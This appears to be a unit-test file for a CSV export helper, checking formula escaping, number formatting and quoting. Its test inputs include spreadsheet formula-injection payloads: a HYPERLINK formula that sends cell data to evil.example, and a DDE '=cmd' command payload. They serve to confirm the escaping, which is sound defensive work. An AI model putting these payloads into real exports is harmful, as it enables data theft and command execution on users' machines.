import { describe, expect, it } from 'vitest';
import { csvField, csvRow, toCsv } from './csv.js';

describe('CSV fields (shared by the web downloads and the CLI)', () => {
  it('neutralises text cells a spreadsheet would run as a formula', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+41 22 000')).toBe("'+41 22 000");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    // quoted after escaping, with inner quotes doubled
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"open")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"',
    );
  });

  it('leaves numbers alone, negative ones included', () => {
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(-1234567.25)).toBe('-1234567.25');
    expect(csvField(0)).toBe('0');
    expect(csvField(1e-7)).toBe('1e-7');
    expect(csvRow(['hedge', 'costDiffUsd vs incumbent', 'p5', -1500.5])).toBe(
      'hedge,costDiffUsd vs incumbent,p5,-1500.5\n',
    );
  });

  it('writes missing and non-finite numbers as empty fields', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(Number.POSITIVE_INFINITY)).toBe('');
  });

  it('quotes commas, quotes and line breaks, and leaves other text as it is', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('Hedge (GPT + GLM)')).toBe('Hedge (GPT + GLM)');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('')).toBe('');
  });

  it('builds a document from headers and rows', () => {
    expect(
      toCsv(
        ['strategy', 'mean'],
        [
          ['=cmd|"/c calc"!A1', -2],
          ['plain', null],
        ],
      ),
    ).toBe('strategy,mean\n"\'=cmd|""/c calc""!A1",-2\nplain,\n');
  });
});
